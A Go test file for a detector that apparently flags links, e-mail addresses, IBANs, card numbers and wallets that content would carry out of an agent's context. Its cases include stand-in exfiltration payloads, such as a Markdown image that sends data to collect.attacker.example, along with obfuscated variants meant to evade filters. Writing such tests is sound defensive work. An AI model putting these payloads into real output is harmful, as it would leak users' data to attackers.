package flow

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestCarried(t *testing.T) {
	for _, c := range []struct {
		name, output, content string
		want                  []string // texts reported; "?" for one that could not be cut out
	}{
		{"E126 Markdown image", seeCollect, "![x](https://collect.attacker.example/in?d=abc)", []string{"https://collect.attacker.example/in?d=abc"}},
		{"E128 link without scheme", "See www.login.attacker.example for details.", "Please sign in at www.login.attacker.example", []string{"www.login.attacker.example"}},
		{"E128 at the end of a sentence", "See www.login.attacker.example for details.", "Sign in at www.login.attacker.example.", []string{"www.login.attacker.example"}},
		{"E129 IBAN", "pay to XX82TEST12345698765432", "New account: XX82 TEST 1234 5698 7654 32", []string{"XX82 TEST 1234 5698 7654 32"}},
		{"E130 nothing", "nothing here", "See you at 10.", nil},
		{"IBAN in one piece", "pay to XX82 TEST 1234 5698 7654 32", "(XX82TEST12345698765432)", []string{"XX82TEST12345698765432"}},
		{"IBAN with hyphens", "pay to XX82TEST12345698765432", "it is XX82-TEST-1234-5698-7654-32.", []string{"XX82 TEST 1234 5698 7654 32"}},
		{"IBAN in small letters", "pay to XX82TEST12345698765432", "it is xx82test12345698765432", []string{"xx82test12345698765432"}},
		{"IBAN, full width", "pay to XX82TEST12345698765432", "it is ＸＸ８２ＴＥＳＴ１２３４５６９８７６５４３２", []string{"xx82test12345698765432"}},
		{"IBAN with zero-width spaces", "pay to XX82TEST12345698765432", "it is XX82TEST\u200b12345698\u200b765432", []string{"XX82TEST 12345698 765432"}},
		{"IBAN between commas", "pay to XX82TEST12345698765432", "XX82,TEST,1234,5698,7654,32", []string{"XX82 TEST 1234 5698 7654 32"}},
		{"IBAN between underscores", "pay to XX82TEST12345698765432", "XX82_TEST_1234_5698_7654_32", []string{"XX82 TEST 1234 5698 7654 32"}},
		{"IBAN behind a colon", "pay to XX82TEST12345698765432", "IBAN:XX82TEST12345698765432", []string{"XX82TEST12345698765432"}},
		{"IBAN, letter by letter", "pay to XX82TEST12345698765432", "X X 8 2 T E S T 1 2 3 4 5 6 9 8 7 6 5 4 3 2", []string{"X X 8 2 T E S T 1 2 3 4 5 6 9 8 7 6 5 4 3 2"}},
		{"IBAN among numbers", "pay to XX82TEST12345698765432", "1 12 XX82 TEST 1234 5698 7654 32 99 5500", []string{"XX82 TEST 1234 5698 7654 32"}},
		{"card among numbers", "card 4111111111111111", "12 4111 1111 1111 1111 99", []string{"4111 1111 1111 1111"}},
		{"card", "card 4111 1111 1111 1111", "use 4111111111111111 please", []string{"4111111111111111"}},
		{"phone", "call +49 30 1234567", "call +49 30 1234567 now", []string{"+49 30 1234567"}},
		{"phone as it is dialled", "call +44 20 7946 0958", "call 00442079460958", []string{"00442079460958"}},
		{"phone as it is written", "call 0044 20 7946 0958", "call +442079460958", []string{"+442079460958"}},
		{"phone in groups of two", "call 06 12 34 56 78", "call 06 12 34 56 78", []string{"06 12 34 56 78"}},
		{"phone in brackets", "call (555) 010-9999", "call (555) 010-9999", []string{"555 010 9999"}},
		{"wallet", "send to 0x52908400098527886E0F7030069857D2E4169EE7", "0x52908400098527886E0F7030069857D2E4169EE7", []string{"0x52908400098527886E0F7030069857D2E4169EE7"}},
		{"wallet, bech32", "send to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq!", []string{"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"}},
		{"address", "write to eve@attacker.example", "please answer to Eve <eve@attacker.example>", []string{"eve@attacker.example"}},
		{"mailto", "write to eve@attacker.example", `<a href="mailto:eve@attacker.example">me</a>`, []string{"eve@attacker.example"}},
		{"another path", seeCollect, "https://collect.attacker.example/other", []string{"https://collect.attacker.example/other"}},
		{"another sub-domain", seeCollect, "https://x.attacker.example/", []string{"https://x.attacker.example/"}},
		{"unquoted attribute", seeCollect, "<img src=https://collect.attacker.example/in>", []string{"https://collect.attacker.example/in"}},
		{"percent-encoded", seeCollect, "https%3A%2F%2Fcollect.attacker.example%2Fin", []string{"https://collect.attacker.example/in"}},
		{"entities", "write to eve@attacker.example", "eve&#64;attacker&#46;example", []string{"eve@attacker.example"}},
		{"zero-width", seeCollect, "https://collect.attac\u200bker.example/in", []string{"?"}},
		{"spaces round @", "write to eve@attacker.example", "eve @ attacker.example", []string{"attacker.example"}},
		{"IP address", "See http://203.0.113.7/ for details.", "http://203.0.113.7/x", []string{"http://203.0.113.7/x"}},
		{"a list", seeCollect + " eve@attacker.example", "eve@attacker.example,https://collect.attacker.example/in", []string{"https://collect.attacker.example/in", "eve@attacker.example"}},

		{"another address of the domain", "write to eve@partner.example", "write to bob@partner.example", nil},
		{"a made-up link", seeCollect, "https://docs.partner.example/?d=abc", []string{"https://docs.partner.example/?d=abc"}},
		{"a made-up link behind an attribute", "nothing", "<img src=https://new.partner.example/x?d=1>", []string{"https://new.partner.example/x?d=1"}},
		{"a made-up link behind a colon", "nothing", "url:https://new.partner.example/x", []string{"https://new.partner.example/x"}},
		{"a made-up link behind a word", "nothing", "seehttps://new.partner.example/x", []string{"https://new.partner.example/x"}},
		{"a made-up link without a scheme", "nothing", "<img src=//new.partner.example/x>", []string{"//new.partner.example/x"}},
		{"a made-up host behind an attribute", "nothing", "<img src=new.partner.example/x>", []string{"//new.partner.example/x"}},
		{"a made-up link behind another script", "nothing", "見https://new.partner.example/x", []string{"https://new.partner.example/x"}},
		{"a made-up host", seeCollect, "see docs.partner.example", []string{"docs.partner.example"}},
		{"an address not seen", seeCollect, "see ana@partner.example", nil},
		{"members in code", "nothing", "check user.name, then u.id and this.page; the end.Next", nil},
		{"a made-up host that is no word", "nothing", "see user.name.partner.example", []string{"user.name.partner.example"}},
		{"a made-up link under a word", "nothing", "https://user.name/x?d=1", []string{"https://user.name/x?d=1"}},
		{"a link seen under a word", "see user.name", "go to user.name", []string{"user.name"}},
		{"a range of addresses", "nothing", "open 10.0.0.0/8", nil},
		{"a chat's time stamp", "at 1732960000.000100", "1732960000.000100", nil},
		{"prose", "Meeting notes. Please forward the summary.", "Meeting notes. Please forward the summary.", nil},
		{"a short number", "room 1234", "room 1234", nil},
		{"date", "on 2026-11-30", "on 2026-11-30", nil},
		{"date and time", "on 2026-11-30 10:45:00", "on 2026-11-30 10:45:00", nil},
		{"time and date", "10:45 30.11.2026", "10:45 30.11.2026", nil},
		{"two dates", "30.11.2026 01.12.2026", "30.11.2026 01.12.2026", nil},
		{"ISO time", "2026-11-30T10:45:00.123456Z", "2026-11-30T10:45:00.123456Z", nil},
		{"years", "2024, 2025, 2026 and 2027", "2024, 2025, 2026 and 2027", nil},
		{"times", "10:30 11:30 12:30 13:30 14:30", "10:30 11:30 12:30 13:30 14:30", nil},
		{"day, month, year, time", "30 11 2026 10 45 00", "30 11 2026 10 45 00", nil},
		{"compact time", "20261130104500", "20261130104500", nil},
		{"milliseconds since 1970", "1764464525123", "1764464525123", nil},
		{"amount", "it is 1,234,567,890.00", "it is 1,234,567,890.00", nil},
		{"amount without commas", "it is 123456789.00", "it is 123456789.00", nil},
		{"amounts in a row", "100,000 200,000 300,000", "100,000 200,000 300,000", nil},
		{"UUID", "id ab12c4e8-1234-41d4-a716-446655440000", "id ab12c4e8-1234-41d4-a716-446655440000", nil},
		{"commit", "in de0b6b3a7640000c2a5f1e9d8b7a6c5d4e3f2a1b", "in de0b6b3a7640000c2a5f1e9d8b7a6c5d4e3f2a1b", nil},
		{"digest", "sha256 " + strings.Repeat("ab12cd34", 8), "sha256 " + strings.Repeat("ab12cd34", 8), nil},
		{"file name", "read notes.md and main.go", "read notes.md and main.go", nil},
		{"version", "version 1.20.3", "version 1.20.3", nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			var got []string
			for _, f := range observed(t, c.output).Carried(c.content, nil) {
				if f.Text == "" {
					f.Text = "?"
				}
				if f.Origin == Unknown {
					f.Evidence = Evidence{Tool: "read", Call: 1}
				}
				if f.Evidence.Call != 1 || f.Evidence.Tool != "read" {
					t.Errorf("evidence %+v", f.Evidence)
				}
				got = append(got, f.Text)
			}
			slices.Sort(got)
			slices.Sort(c.want)
			if !slices.Equal(got, c.want) {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

// What is known from elsewhere may be passed on, and excuses nothing else.
func TestCarriedKnowsOrigins(t *testing.T) {
	l := ledgerOf(t,
		shown{labels: "f[*]: vouched", value: structured(t, `{"f":["ana@partner.example"]}`)},
		shown{labels: "f: inside", value: structured(t, `{"f":"see https://wiki.partner.example/a"}`)},
		shown{labels: "f: party", value: structured(t, `{"f":"carl@partner.example"}`)},
		shown{value: value(t, result("ana@partner.example bob@partner.example https://wiki.partner.example/a https://evil.partner.example/b typed@partner.example XX82TEST12345698765432"))},
	)
	l.Typed("send typed@partner.example and XX82TEST12345698765432")
	for content, want := range map[string]string{
		"ana@partner.example":                     "",
		"carl@partner.example":                    "",
		"https://wiki.partner.example/a":          "",
		"typed@partner.example":                   "",
		"XX82TEST12345698765432":                  "",
		"XX82 TEST 1234 5698 7654 32":             "",
		"XX82 TEST 1234 5698 7654 33":             "",
		"ana@partner.example bob@partner.example": "bob@partner.example",
		"ana@partner.example, typed@partner.example and ana@partner.example, bob&#64;partner.example": "partner.examplebob@partner.example",
		"https://wiki.partner.example/a https://evil.partner.example/b":                               "https://evil.partner.example/b",
	} {
		got := ""
		for _, f := range l.Carried(content, nil) {
			got += f.Text
		}
		if got != want {
			t.Errorf("%q carries %q, want %q", content, got, want)
		}
	}
}

// Nothing hides behind much of something else.
func TestCarriedIsNotFlooded(t *testing.T) {
	l := observed(t, "pay to XX82TEST12345698765432 or see https://collect.attacker.example/in or write to eve@attacker.example")
	for name, flood := range map[string]string{
		"numbers":   strings.Repeat("5500 0000 0000 0004, ", 500),
		"groups":    strings.Repeat("1234 ", 2000),
		"links":     repeated(1000, "https://x%d.partner.example/ "),
		"addresses": repeated(1000, "x%d@partner.example "),
	} {
		for _, bad := range []string{"XX82 TEST 1234 5698 7654 32", "https://collect.attacker.example/x", "eve@attacker.example"} {
			for _, text := range []string{flood + "and " + bad, bad + " and " + flood} {
				// What the contract trusts takes no room, and what was seen comes first.
				for _, trusted := range []func(Destination) bool{nil, func(d Destination) bool { return strings.HasSuffix(d.parts.host, "partner.example") }} {
					found := l.Carried(text, trusted)
					if !slices.ContainsFunc(found, func(c Carried) bool { return c.Text == bad || c.More && name == "groups" }) {
						t.Errorf("%s hide %s", name, bad)
					}
				}
			}
		}
	}
}

func repeated(n int, format string) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, format, i)
	}
	return b.String()
}

// Hostile content costs what its length costs.
func TestContentCostsItsLength(t *testing.T) {
	l := observed(t, seeCollect, "pay to XX82TEST12345698765432 attacker.example a.b")
	secrets(t, l, "hunter2", "correct horse battery", "a-longer-secret-than-that-is-here", "17-22-33-41", strings.Repeat("s3cret", 40))
	const size = 128 << 10
	for name, unit := range map[string]string{
		"words": "word ", "hosts": "a.b ", "seen hosts": "x.attacker.example ", "addresses": "e@attacker.example,", "at": "@", "digits": "1", "groups": "1234 ", "colons": "1:", "commas": "1,",
		"dots": "a.", "slashes": "http://a/", "quotes": `"a@b"`, "brackets": "<a@b.c>", "percent": "%25", "wide": "予", "plus": "+1 ", "hyphens": "1-", "letters": "s3cret", "links": "https://a.example/x?u=https://b.example/ ", "lists": "a@b.c;",
	} {
		text := strings.Repeat(unit, size/len(unit))
		start := time.Now()
		l.Carried(text, nil)
		carried := time.Since(start)
		l.Secret(text)
		both := time.Since(start)
		t.Logf("%-12s carried %v, secret %v", name, carried.Round(time.Millisecond), (both - carried).Round(time.Millisecond))
		if both > 20*time.Second {
			t.Errorf("%s: %v for 128 KiB", name, both)
		}
	}
}
